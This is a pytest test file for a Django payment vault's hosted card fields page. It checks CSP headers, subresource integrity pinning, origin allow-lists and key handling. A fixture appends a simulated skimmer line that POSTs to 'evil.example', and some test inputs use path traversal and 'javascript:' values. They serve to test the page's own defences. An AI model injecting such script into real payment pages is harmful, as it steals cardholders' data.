"""The hosted card fields page: origin check, strict headers, our own SRI-pinned scripts."""

from __future__ import annotations

import base64
import hashlib
import json
import logging
import re
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.contrib.staticfiles import finders
from django.test import Client

from tokenization.views import normalize_origin

pytestmark = pytest.mark.django_db
SHOP = "https://shop.example"
ROOT = Path(__file__).resolve().parents[2]
STATIC_DIR = ROOT / "tokenization" / "static"
PINNED = json.loads((ROOT / "tokenization" / "script_inventory.json").read_text())["assets"]


@pytest.fixture
def shop(merchant):
    merchant.merchant.allowed_origins = [SHOP, "http://127.0.0.1:8000"]
    merchant.merchant.save(update_fields=["allowed_origins"])
    return merchant


def _get(key: str, origin: str = SHOP):
    return Client().get("/hosted/fields?" + urlencode({"key": key, "origin": origin}))


def test_page_renders_for_an_allowed_origin_with_a_strict_csp(shop) -> None:
    response = _get(shop.publishable)
    assert response.status_code == 200
    csp = response["Content-Security-Policy"]
    for directive in (
        "default-src 'none'",
        "script-src 'self'",
        "connect-src 'self'",
        f"frame-ancestors {SHOP}",
        "form-action 'none'",
        "base-uri 'none'",
    ):
        assert directive in csp
    assert "X-Frame-Options" not in response  # framing is governed by frame-ancestors
    assert response["Cache-Control"] == "no-store"
    assert response["Referrer-Policy"] == "no-referrer"
    html = response.content.decode()
    assert f'data-origin="{SHOP}"' in html


def test_every_script_is_ours_and_pinned_with_subresource_integrity(shop) -> None:
    html = _get(shop.publishable).content.decode()
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)
    assert scripts, "the page has its script"
    for attrs, inline in scripts:
        assert not inline.strip(), "no inline scripts (CSP forbids them anyway)"
        src = re.search(r'src="([^"]+)"', attrs).group(1)
        assert src.startswith("/hosted/assets/"), "only our own scripts, from our origin"
        integrity = re.search(r'integrity="([^"]+)"', attrs).group(1)
        name = "tokenization/" + src.removeprefix("/hosted/assets/")
        # The page serves the reviewed, checked-in pin, not a hash of whatever is on disk…
        assert integrity == PINNED[name]
        served = Client().get(src)
        assert served.status_code == 200
        assert served["Content-Type"].startswith("text/javascript")
        # …and what is served is exactly the pinned content.
        assert _sri(served.content) == PINNED[name]
    inventory = (ROOT / "docs" / "script-inventory.md").read_text()
    assert "tokenization/script_inventory.json" in inventory
    for attrs, _ in scripts:
        name = re.search(r'src="/hosted/assets/([^"]+)"', attrs).group(1)
        assert name in inventory, f"{name} is missing from docs/script-inventory.md"


def _sri(content: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(content).digest()).decode()


@pytest.mark.parametrize("name", sorted(PINNED))
def test_every_checked_in_asset_matches_its_pin(name: str) -> None:
    # Fails when a script is changed without its new hash in tokenization/script_inventory.json
    # (the review step of docs/script-inventory.md).
    # (Other apps' payment pages, payment links, pin theirs here too: found as pages find them.)
    assert _sri(Path(finders.find(name)).read_bytes()) == PINNED[name]


@pytest.fixture
def tampered_script(settings, tmp_path):
    """A modified hosted-fields.js found first by the staticfiles finders, as if someone had
    edited the file on the server (or in a pull request) without pinning it."""
    original = (STATIC_DIR / "tokenization" / "hosted-fields.js").read_bytes()
    (tmp_path / "tokenization").mkdir()
    tampered = original + b"\nfetch('https://evil.example/', {method: 'POST'});\n"
    (tmp_path / "tokenization" / "hosted-fields.js").write_bytes(tampered)
    settings.STATICFILES_DIRS = [tmp_path]
    return tampered


def test_a_modified_script_is_refused_with_an_error_page_and_logged(
    shop, tampered_script, caplog
) -> None:
    with caplog.at_level(logging.ERROR, logger="qr.vault"):
        response = _get(shop.publishable)
    assert response.status_code == 503
    assert b"<script" not in response.content
    assert b"temporarily unavailable" in response.content
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]
    assert "hosted-fields.js does not match its pinned hash" in caplog.text
    served = Client().get("/hosted/assets/hosted-fields.js")
    assert served.status_code == 503 and tampered_script not in served.content


def test_a_revoked_publishable_key_is_refused(shop) -> None:
    from django.utils import timezone

    from merchants.models import ApiKey
    from merchants.services import hash_key

    ApiKey.objects.filter(key_hash=hash_key(shop.publishable)).update(revoked_at=timezone.now())
    assert _get(shop.publishable).status_code == 401


def test_the_vault_reads_merchants_only_through_their_selectors() -> None:
    import ast

    for path in (ROOT / "tokenization").rglob("*.py"):
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module:
                assert not node.module.startswith("merchants.models"), path
                assert node.module != "merchants.services", path


@pytest.mark.parametrize("name", ["../../config/settings/base.py", "nope.js", "hosted-fields.js/"])
def test_only_the_listed_assets_are_served(name) -> None:
    assert Client().get(f"/hosted/assets/{name}").status_code == 404


def test_an_origin_not_allowed_for_the_merchant_is_refused(shop) -> None:
    response = _get(shop.publishable, origin="https://evil.example")
    assert response.status_code == 403
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]
    assert b"<script" not in response.content


@pytest.mark.parametrize("key", ["", "pk_test_nope"])
def test_a_missing_or_unknown_key_is_refused(shop, key) -> None:
    assert _get(key).status_code == 401


def test_a_secret_key_in_the_url_is_refused(shop) -> None:
    response = _get(shop.secret)
    assert response.status_code == 400
    assert b"publishable" in response.content


@pytest.mark.parametrize(
    ("value", "origin"),
    [
        ("https://Shop.Example:443/", "https://shop.example"),
        ("http://127.0.0.1:8000", "http://127.0.0.1:8000"),
        ("https://shop.example/path", None),
        ("javascript:alert(1)", None),
        ("", None),
    ],
)
def test_origins_are_normalized_before_comparison(value, origin) -> None:
    assert normalize_origin(value) == origin


def test_demo_checkout_embeds_the_fields_from_the_vault_origin(shop) -> None:
    response = Client().get(
        "/demo/checkout?" + urlencode({"key": shop.publishable, "vault": "http://localhost:9"})
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert 'src="http://localhost:9/hosted/fields?key=pk_test_' in html
    assert "frame-src http://localhost:9" in response["Content-Security-Policy"]
    assert 'integrity="sha384-' in html


def test_demo_checkout_uses_the_seeded_demo_key_in_development(
    shop, settings, tmp_path, monkeypatch
) -> None:
    (tmp_path / "demo_keys.json").write_text(
        f'{{"secret": "{shop.secret}", "publishable": "{shop.publishable}"}}'
    )
    settings.LOCAL_DIR = tmp_path
    monkeypatch.setenv("DJANGO_ENV", "development")
    html = Client().get("/demo/checkout").content.decode()
    assert f"key={shop.publishable}" in html
    assert shop.secret not in html


def test_demo_checkout_is_off_in_production(monkeypatch) -> None:
    monkeypatch.setenv("DJANGO_ENV", "production")
    monkeypatch.delenv("VAULT_DEMO_CHECKOUT", raising=False)
    assert Client().get("/demo/checkout").status_code == 404


def test_a_missing_chromium_fails_the_browser_tests_instead_of_skipping_them(tmp_path) -> None:
    from tests.fixtures.browser import CHROMIUM_PATH, require_chromium

    outcome: BaseException | None = None
    try:
        require_chromium(str(tmp_path / "no-chromium"))
    except BaseException as exc:  # a skip is an exception too: catch it to fail on it
        outcome = exc
    assert isinstance(outcome, pytest.fail.Exception), repr(outcome)
    assert "must run, not skip" in str(outcome)
    if Path(CHROMIUM_PATH).exists():
        assert require_chromium() == CHROMIUM_PATH
